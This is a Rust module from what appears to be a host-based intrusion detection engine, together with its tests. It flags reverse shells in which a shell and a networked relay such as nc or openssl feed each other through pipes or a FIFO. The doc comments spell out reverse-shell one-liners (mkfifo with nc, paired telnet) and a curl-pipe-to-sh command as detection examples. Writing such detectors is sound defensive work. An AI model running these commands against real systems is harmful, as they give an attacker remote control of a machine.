//! A shell and a program with a connection that read each other's output, as in
//! `mkfifo f; cat f | sh -i 2>&1 | nc HOST PORT > f`. At most one program such as `cat`
//! may stand between. Two relays to one host, one for each direction, are a circle too.
//!
//! Output that only goes out, or input that only comes in, is no circle: neither
//! `tar c | nc HOST PORT` nor `curl URL | sh` is reported here.

use std::sync::Arc;

use sentinel_event::{Event, Process, Severity};

use super::pipes::input;
use super::{ReverseShell, TECHNIQUES, is_commanded, named, towards};
use crate::connections::Spoken;
use crate::{Finding, programs, words};

const ONE: &str = "what the program with the connection reads is the shell's output, and what it \
                   writes is the shell's input, by the pipes that they share";
const TWO: &str = "one program with a connection writes what the shell reads, and another with one \
                   to the same host reads what the shell writes, by the pipes that they share";

/// Judges whether `process`, which was started, connected or opened a FIFO, has closed a
/// circle. It is the event's, or the image to which that went on before the event was told.
/// A shell is told of once, whichever of its circle's members is heard of last.
pub fn judge(
    detection: &mut ReverseShell,
    event: &Event,
    process: &Arc<Process>,
) -> Option<Finding> {
    let mut members = behind(detection, process);
    members.push(process.clone());
    // The last one of two relays hears of no one behind it.
    members.extend(before(detection, process));
    // Numbers of pipes are used again: whoever had one before may still be remembered.
    let known = &detection.circles;
    let is_news = |shell: &&Arc<Process>| is_commanded(shell) && known.seen(shell.exec_id.0) == 0;
    let mut shells = members.iter().rev().filter(is_news);
    let (shell, relay, spoken, reason) = shells.find_map(|shell| {
        let one = relay_of(detection, shell).map(|found| (found, ONE));
        let found = one.or_else(|| Some((pair_of(detection, shell)?, TWO)));
        let ((relay, spoken), reason) = found?;
        Some((shell, relay, spoken, reason))
    })?;
    let found = finding(event, shell, &relay, &spoken, reason);
    detection.circles.note(shell.exec_id.0);
    Some(found)
}

/// The processes up to two pipes behind the output of `process`.
fn behind(detection: &ReverseShell, process: &Process) -> Vec<Arc<Process>> {
    let pipes = &detection.pipes;
    let next = |process: &Process| -> Vec<Arc<Process>> {
        let outputs = pipes.outputs(process).into_iter();
        outputs
            .flat_map(|pipe| pipes.readers(pipe).iter().cloned())
            .collect()
    };
    let mut members = next(process);
    let second: Vec<_> = members.iter().flat_map(|member| next(member)).collect();
    members.extend(second);
    members
}

/// The processes that write what `process` reads, where it is a relay.
fn before(detection: &ReverseShell, process: &Process) -> Vec<Arc<Process>> {
    let pipes = &detection.pipes;
    let inputs = match programs::is_relay(&process.exe) {
        true => pipes.inputs(process),
        false => Vec::new(),
    };
    let writers = inputs.into_iter().flat_map(|pipe| pipes.writers(pipe));
    writers.cloned().collect()
}

/// Two relays to the same host, of which one writes what `shell` reads and the other reads
/// what `shell` writes, as in `telnet HOST 1 | sh | telnet HOST 2`. Gives the second.
fn pair_of(detection: &ReverseShell, shell: &Process) -> Option<(Arc<Process>, Arc<Spoken>)> {
    let pipes = &detection.pipes;
    let spoken = |relay: &Arc<Process>| {
        let met = programs::is_relay(&relay.exe) && pipes.may_have_met(relay, shell);
        let spoken = detection.connections.of(relay).filter(|_| met)?;
        Some((relay.clone(), spoken.clone()))
    };
    let orders = pipes.writers(input(shell)?).iter().rev();
    let (giver, from) = orders.filter_map(spoken).next()?;
    let outputs = pipes.outputs(shell).into_iter();
    let mut readers = outputs.flat_map(|pipe| pipes.readers(pipe));
    readers.find_map(|relay| {
        let (taker, to) = spoken(relay)?;
        let same = from.peer.ip() == to.peer.ip() && giver.pid != taker.pid;
        same.then_some((taker, to))
    })
}

/// The program with a connection that writes what `shell` reads, itself or through one
/// other, and reads what `shell` writes.
fn relay_of(detection: &ReverseShell, shell: &Process) -> Option<(Arc<Process>, Arc<Spoken>)> {
    let pipes = &detection.pipes;
    let answers = pipes.outputs(shell);
    // The youngest first.
    let direct = pipes.writers(input(shell)?).iter().rev();
    let through_one = direct
        .clone()
        .flat_map(|between| pipes.inputs(between))
        .flat_map(|pipe| pipes.writers(pipe));
    direct
        .chain(through_one)
        .filter(|relay| {
            let mut inputs = pipes.inputs(relay).into_iter();
            inputs.any(|pipe| answers.contains(&pipe)) && pipes.may_have_met(relay, shell)
        })
        .find_map(|relay| {
            let spoken = detection.connections.of(relay)?;
            Some((relay.clone(), spoken.clone()))
        })
}

fn finding(
    event: &Event,
    shell: &Process,
    relay: &Process,
    spoken: &Spoken,
    reason: &str,
) -> Finding {
    let relay_name = words::shown(words::program(&relay.exe));
    let shell_name = words::shown(words::program(&shell.exe));
    let mut earlier = Vec::new();
    if spoken.seq != event.seq {
        earlier.push(spoken.evidence(event.time_ns));
    }
    Finding {
        variant: "circle",
        subject: "".into(),
        severity: towards(spoken.peer, Severity::Critical),
        confidence: 90,
        summary: format!(
            "{relay_name} (pid {}) and a shell ({shell_name}, pid {}, {}) command each other \
             over {}{}",
            relay.pid,
            shell.pid,
            words::user(shell),
            named(spoken),
            words::origin(shell)
        ),
        reason: reason.to_owned(),
        techniques: TECHNIQUES.into(),
        earlier,
        shows: format!("{} of the last member of the circle", event.kind()),
    }
}

#[cfg(test)]
mod tests {
    use sentinel_event::{
        Access, Connection, Detail, ExecId, Exit, FileAccess, FileIdentity, Fork, Stdio, StdioKind,
    };

    use super::*;
    use crate::{Config, Engine, testing};

    const FIFO_INODE: u64 = 501;

    /// A process whose standard streams are the pipes with these inode numbers; 0 for a
    /// terminal. `image` tells the images of one process apart.
    fn process(exe: &str, pid: u32, image: u32, pipes: [u64; 3]) -> Arc<Process> {
        let stdio = pipes.map(|inode| Stdio {
            kind: match inode {
                0 => StdioKind::Tty,
                _ => StdioKind::Pipe,
            },
            inode,
            ..Stdio::default()
        });
        let argv: Arc<[Box<str>]> = [exe.rsplit('/').next().unwrap_or(exe).into()].into();
        Arc::new(Process {
            exec_id: ExecId::new(1, pid, 1, image),
            stdio: Arc::new(stdio),
            argv,
            ..testing::process(exe, pid)
        })
    }

    fn opens(process: &Arc<Process>, access: Access) -> Event {
        let file = FileIdentity {
            dev: 1,
            inode: FIFO_INODE,
            mode: 0o010_644,
            ..FileIdentity::default()
        };
        let detail = Detail::Open(FileAccess {
            path: "/tmp/f".into(),
            file,
            backing: Default::default(),
            access,
            open_flags: 0,
            fd: 3,
        });
        testing::event(process.clone(), 1, detail)
    }

    fn starts(process: &Arc<Process>) -> Event {
        let exec = testing::exec(&process.exe, process.pid, 2);
        testing::event(process.clone(), 2, exec.detail)
    }

    fn connects(process: &Arc<Process>) -> Event {
        let connection = Connection {
            protocol: Default::default(),
            local: "10.0.0.9:40000".parse().expect("an address"),
            peer: "203.0.113.5:4444".parse().expect("an address"),
            inode: 0,
        };
        testing::event(process.clone(), 3, Detail::Connect(connection))
    }

    /// `cat f | sh | relay > f`, where the opens of the FIFO come in every order and at every
    /// point between the starts, as they may when their ring is flooded.
    #[test]
    fn a_circle_is_found_whenever_its_opens_are_told() {
        let before = process("/usr/bin/dash", 12, 1, [0, 0, 0]);
        let cat = process("/usr/bin/cat", 10, 2, [0, 502, 0]);
        let shell = process("/usr/bin/dash", 11, 2, [502, 503, 0]);
        let relay = process("/usr/bin/nc", 12, 2, [503, FIFO_INODE, 0]);
        let in_order = [
            testing::event(
                cat.clone(),
                0,
                Detail::Fork(Fork {
                    child: before.clone(),
                }),
            ),
            starts(&relay),
            connects(&relay),
            starts(&cat),
            starts(&shell),
        ];
        let late = [opens(&before, Access::Write), opens(&cat, Access::Read)];
        for (first, second) in [(0, 1), (1, 0)] {
            for at in 0..=in_order.len() {
                for then in at..=in_order.len() {
                    let mut events = in_order.to_vec();
                    events.insert(then, late[second].clone());
                    events.insert(at, late[first].clone());
                    let mut engine = Engine::new(&Config::default());
                    let mut alerts = Vec::new();
                    events.iter().for_each(|e| engine.observe(e, &mut alerts));
                    let circles = alerts.iter().filter(|a| a.summary.contains("command each"));
                    assert_eq!(circles.count(), 1, "{first} at {at}, {second} at {then}");
                }
            }
        }
    }

    /// The numbers of the first attack's pipes are those of the second's.
    #[test]
    fn a_second_circle_with_the_same_numbers_is_found_too() {
        let mut engine = Engine::new(&Config::default());
        for pid in [20, 30] {
            let shell = process("/usr/bin/dash", pid, 2, [FIFO_INODE, 503, 503]);
            let relay = process("/usr/bin/openssl", pid + 1, 2, [503, FIFO_INODE, 0]);
            let mut alerts = Vec::new();
            let ends = |process: &Arc<Process>| {
                testing::event(process.clone(), 2, Detail::Exit(Exit::default()))
            };
            let mut events = [
                starts(&relay),
                starts(&shell),
                connects(&relay),
                ends(&shell),
                ends(&relay),
            ];
            for event in &mut events {
                event.time_ns += i64::from(pid);
                engine.observe(event, &mut alerts);
            }
            let told: Vec<_> = alerts.iter().map(|alert| &alert.summary).collect();
            let expected = format!("openssl (pid {}) and a shell (dash, pid {pid}", pid + 1);
            assert!(
                told.len() == 1 && told[0].starts_with(&expected),
                "{told:?}"
            );
        }
    }
}
